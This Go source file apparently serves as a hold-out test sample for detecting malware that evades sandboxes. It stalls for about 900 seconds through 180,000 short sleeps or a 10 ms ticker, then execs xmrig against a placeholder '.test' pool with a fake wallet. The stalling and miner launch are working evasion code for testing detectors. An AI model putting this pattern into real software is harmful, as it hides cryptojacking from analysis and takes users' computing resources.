// Waits about 900 s in tens of thousands of very short Go timer waits, then mines (detonate
// hold-out test sample; harmless, fake wallet, .test pool). The form is the first argument:
//
//	sleep   main calls time.Sleep(5 * time.Millisecond) 180,000 times
//	ticker  a goroutine counts a time.NewTicker(10 ms) to 90,000 in a for-range over its
//	        channel, then closes a done channel main is blocked on
package main

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"
)

const (
	pool   = "stratum+tcp://pool.short.test:3333"
	wallet = "47sh0rtSt3psFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"
)

var scale = 1

func sleepRounds() {
	for i := 0; i < 180000/scale; i++ {
		time.Sleep(5 * time.Millisecond)
	}
}

func tickerRounds() {
	done := make(chan struct{})
	go func() {
		defer close(done)
		t := time.NewTicker(10 * time.Millisecond)
		defer t.Stop()
		n := 0
		for range t.C {
			n++
			if n >= 90000/scale {
				return
			}
		}
	}()
	<-done
}

func main() {
	forms := map[string]func(){"sleep": sleepRounds, "ticker": tickerRounds}
	wait, ok := forms[""]
	if len(os.Args) == 2 {
		wait, ok = forms[os.Args[1]]
	}
	if !ok {
		fmt.Fprintln(os.Stderr, "usage: goshort sleep|ticker")
		os.Exit(2)
	}
	if s, err := strconv.Atoi(os.Getenv("GOSHORT_SCALE")); err == nil && s > 0 {
		scale = s
	}
	miner := "/usr/local/bin/xmrig"
	if m := os.Getenv("GOSHORT_MINER"); m != "" {
		miner = m
	}
	fmt.Printf("waiting 900 s in short %s rounds\n", os.Args[1])
	started := time.Now()
	wait()
	fmt.Printf("waited %.1f s; starting the miner\n", time.Since(started).Seconds())
	argv := []string{"xmrig", "-o", pool, "-u", wallet, "--shares", "1"}
	err := syscall.Exec(miner, argv, os.Environ())
	fmt.Fprintln(os.Stderr, "exec", miner+":", err)
	os.Exit(127)
}
